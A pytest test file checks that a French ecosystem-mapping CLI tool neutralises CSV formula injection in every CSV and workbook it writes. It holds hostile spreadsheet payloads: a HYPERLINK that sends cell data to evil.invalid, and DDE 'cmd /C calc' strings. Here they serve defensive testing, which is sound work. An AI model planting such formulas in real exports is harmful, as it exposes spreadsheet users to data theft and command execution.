"""Every CSV written by a command is inert in a spreadsheet, whatever the actors' texts."""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import pytest

from nec_network.cli import main
from nec_network.demo import demo_path
from nec_network.io import FORMATS, read_ecosystem
from nec_network.io.csv_output import FORMULA_TRIGGERS

PAYLOADS = (
    '=HYPERLINK("http://evil.invalid/?x="&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\uff1d1+1",
    "'=1+1",
)


def is_inert(cell: str) -> bool:
    """What a spreadsheet would not run: no formula sign first, or a plain signed number."""
    if not cell or cell[0] not in FORMULA_TRIGGERS:
        return True
    return re.fullmatch(r"[-+](\d+([.,]\d*)?|[.,]\d+)([eE][-+]?\d+)?", cell) is not None


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """The demo with formula payloads as the names, addresses and presentations of its first actors."""
    folder = tmp_path_factory.mktemp("hostile") / "modele"
    shutil.copytree(demo_path(), folder)
    path = folder / "acteurs.csv"
    with path.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    columns = list(rows[0])
    for row, payload in zip(rows, PAYLOADS * 3, strict=False):
        row["nom"] = payload
        row["adresse"] = payload
        row["presentation"] = payload
        row["horaires"] = ""
    # An id with a payload, given twice: the second row is rejected and rejets.csv repeats it.
    rows.extend([{**rows[-1], "id": "=doublon"}, {**rows[-1], "id": "=doublon"}])
    # A person's file, not the tool's: every cell is read as typed, a leading ' included.
    _rewrite(path, rows, columns)
    for name, column in (("partenariats.csv", "note"), ("ressources.csv", "description")):
        with (folder / name).open(encoding="utf-8", newline="") as stream:
            table = list(csv.DictReader(stream))
        for row, payload in zip(table, PAYLOADS, strict=False):
            row[column] = payload
        _rewrite(folder / name, table, list(table[0]))
    return folder


def _rewrite(path: Path, rows: list[dict[str, str]], columns: list[str]) -> None:
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, fieldnames=columns)
        writer.writeheader()
        writer.writerows(rows)


def cells(path: Path) -> list[str]:
    """Every cell of a CSV file, or of every CSV file under a folder."""
    paths = sorted(path.rglob("*.csv")) if path.is_dir() else [path]
    assert paths
    found = []
    for item in paths:
        with item.open(encoding="utf-8", newline="") as stream:
            found.extend(cell for row in csv.reader(stream) for cell in row)
    return found


def test_the_payloads_are_read_as_text(hostile):
    ecosystem, _ = read_ecosystem(hostile)
    assert {actor.nom for actor in ecosystem} >= set(PAYLOADS)
    assert {link.note for link in ecosystem.partnerships} >= set(PAYLOADS)


#: ``export`` to every format of the registry that writes CSV (our template, the national v1 CSV).
CSV_EXPORTS = [
    (["export", "{src}", "--to", fmt.name, "-o", f"{{out}}/sortie-{fmt.name}{fmt.suffix}"],
     f"sortie-{fmt.name}{fmt.suffix}")
    for fmt in FORMATS if fmt.write and (fmt.output == "template" or fmt.suffix == ".csv")
]


def test_the_registry_has_csv_writers_to_check():
    assert [arguments[3] for arguments, _ in CSV_EXPORTS] == ["modele", "mednum"]


@pytest.mark.parametrize(
    ("arguments", "output"),
    [
        (["import", "{src}", "-o", "{out}/importe"], "importe"),
        *CSV_EXPORTS,
        (["analyse", "{src}", "--sites", "2", "-o", "{out}/tables"], "tables"),
        (["coverage", "{src}", "-o", "{out}/couverture.csv"], "couverture.csv"),
        (["gaps", "{src}", "-o", "{out}/lacunes.csv", "--zones-blanches", "{out}/zones.csv"], "."),
        (["recommend", "{src}", "--k", "2", "--candidats", "acteurs", "-o", "{out}/sites.csv"], "sites.csv"),
        (["suggest", "{src}", "--limit", "0", "-o", "{out}/suggestions.csv"], "suggestions.csv"),
        (["communes", "--departements", "80", "-o", "{out}/communes.csv"], "communes.csv"),
        (["geocode", "{src}", "--offline", "--cache", "{out}/cache.sqlite", "-o", "{out}/geocode"], "geocode"),
    ],
)
def test_every_written_cell_is_inert(hostile, tmp_path, capsys, arguments, output):
    argv = [item.format(src=hostile, out=tmp_path) for item in arguments]
    assert main(argv) == 0, capsys.readouterr().err
    found = cells(tmp_path / output)
    assert found
    dangerous = [cell for cell in found if not is_inert(cell)]
    assert dangerous == []


def test_import_then_reimport_gives_the_same_names(hostile, tmp_path, capsys):
    assert main(["import", str(hostile), "-o", str(tmp_path / "une")]) == 0
    rejected = cells(tmp_path / "une" / "rejets.csv")
    assert "'=doublon" in rejected
    first, _ = read_ecosystem(tmp_path / "une")
    assert main(["import", str(tmp_path / "une"), "-o", str(tmp_path / "deux")]) == 0
    second, _ = read_ecosystem(tmp_path / "deux")
    assert [actor.nom for actor in first] == [actor.nom for actor in second]
    assert {actor.nom for actor in second} >= set(PAYLOADS)


def test_geocode_rewrites_every_table_it_carries_over_and_they_read_back_as_typed(hostile, tmp_path):
    """geocode copied partenariats.csv and ressources.csv byte for byte: their formulas went out live."""
    out = tmp_path / "geocode"
    assert main(["geocode", str(hostile), "--offline", "--cache", str(tmp_path / "c.sqlite"), "-o", str(out)]) == 0
    for name in ("partenariats.csv", "ressources.csv"):
        written = cells(out / name)
        assert [cell for cell in written if not is_inert(cell)] == []
        assert "'@SUM(1+1)" in written and "''=1+1" in written
    before, _ = read_ecosystem(hostile)
    after, _ = read_ecosystem(out)
    assert [link.note for link in after.partnerships] == [link.note for link in before.partnerships]
    assert {actor.nom for actor in after} == {actor.nom for actor in before}


def test_a_workbooks_formulas_do_not_survive_geocode(tmp_path):
    import openpyxl

    source = tmp_path / "modele.xlsx"
    assert main(["template", "-o", str(source)]) == 0
    workbook = openpyxl.load_workbook(source)
    sheet = workbook.create_sheet("notes")
    sheet["A1"] = '=HYPERLINK("http://evil.invalid","clic")'
    workbook.save(source)
    target = tmp_path / "geocode.xlsx"
    assert main(["geocode", str(source), "--offline", "--cache", str(tmp_path / "c.sqlite"), "-o", str(target)]) == 0
    written = openpyxl.load_workbook(target)
    assert [cell.data_type for sheet in written.worksheets for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"] == []
